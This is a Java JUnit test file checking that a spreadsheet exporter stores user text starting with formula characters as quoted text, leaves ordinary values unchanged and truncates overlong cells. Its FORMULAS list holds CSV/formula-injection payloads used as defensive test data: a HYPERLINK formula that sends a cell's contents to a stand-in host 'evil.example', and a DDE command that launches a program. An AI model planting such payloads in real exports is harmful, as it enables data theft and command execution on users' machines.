package org.lvzhi.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** What the public typed stays text in every export, and no text breaks one. */
class SpreadsheetTests {

	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
			"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1");

	@Test
	void marksEveryTextAFormulaCouldHideInAsQuotedTextAndKeepsItsValue() throws IOException {
		Row row = writeAndRead(FORMULAS.toArray()).getRow(1);
		for (int i = 0; i < FORMULAS.size(); i++) {
			Cell cell = row.getCell(i);
			assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
			assertThat(cell.getStringCellValue()).isEqualTo(FORMULAS.get(i));
			assertThat(cell.getCellStyle().getQuotePrefixed()).as(FORMULAS.get(i)).isTrue();
		}
	}

	@Test
	void leavesOrdinaryTextAndNumbersAlone() throws IOException {
		Row row = writeAndRead("关于加强社区养老服务的建议", 12, "a=b").getRow(1);
		assertThat(row.getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
		assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(12);
		assertThat(row.getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
	}

	@Test
	void cutsATextLongerThanACellHoldsWithAMarkerInsteadOfFailing() throws IOException {
		Row row = writeAndRead("理".repeat(1_000_000)).getRow(1);
		String value = row.getCell(0).getStringCellValue();
		assertThat(value).hasSize(Spreadsheet.MAX_CELL_LENGTH).endsWith(Spreadsheet.TRUNCATED).startsWith("理理理");
	}

	private static org.apache.poi.ss.usermodel.Sheet writeAndRead(Object... values) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (Spreadsheet sheet = new Spreadsheet("s", List.of("a", "b", "c", "d", "e", "f", "g", "h"))) {
			sheet.row(values);
			sheet.writeTo(out);
		}
		return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray())).getSheetAt(0);
	}
}
